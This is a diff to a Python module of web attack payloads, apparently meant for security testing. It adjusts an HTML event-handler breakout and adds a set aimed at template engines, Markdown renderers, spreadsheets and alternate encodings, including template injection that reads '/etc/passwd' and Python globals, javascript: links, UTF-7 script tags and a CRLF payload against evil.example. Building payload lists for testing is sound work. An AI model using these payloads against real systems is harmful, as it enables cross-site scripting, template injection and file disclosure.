@@ -35,7 +35,7 @@ OUT = (
 ATTRIBUTES = (
     *(f'" {event}="{JS}' for event in ("onmouseover", "onclick", "onpointerenter", "onwheel")),
     *(f"' {event}='{JS}" for event in ("onmouseover", "onclick", "onanimationstart")),
-    *(f"x {event}={JS} " for event in ("onfocus autofocus tabindex=1", "onmouseover")),
+    *(f"x {event}={JS} " for event in ("autofocus tabindex=1 onfocus", "onmouseover")),
     *(f'" style="animation:x" {event}="{JS}' for event in ("onanimationstart", "ontransitionend")),
     f'" accesskey="x" onclick="{JS}',
     f'" formaction="javascript:{JS}',
@@ -139,3 +139,18 @@ PAYLOADS: tuple[str, ...] = tuple(
     )
 )
 """All of them."""
+
+FOR_OTHER_READERS = frozenset(
+    (
+        *("{{ 7 * 7 }}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}"),
+        *(f"#{{{JS}}}", f"{{{{constructor.constructor('{JS}')()}}}}", f"<%= {JS} %>"),
+        *(f"[x](javascript:{JS})", f"![x](javascript:{JS})", f"<javascript:{JS}>"),
+        *(f"[x]: javascript:{JS}\n\n[x]", f"[x](<javascript:{JS}>)"),
+        *(f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e", f"\\';{JS};//"),
+        *(f'=HYPERLINK("javascript:{JS}")', f"+ADw-script+AD4-{JS}+ADw-/script+AD4-"),
+        *(f"＜script＞{JS}＜/script＞", f"//evil.example/%0d%0ax:{JS}"),
+        *(f"<!--<script>{JS}</script>", f"<![CDATA[<script>{JS}</script>"),
+    )
+)
+"""Those that no browser of today runs where they stand: they are for templates, makers of HTML from
+Markdown or JSON, spreadsheets, other encodings, or filters that take something away."""
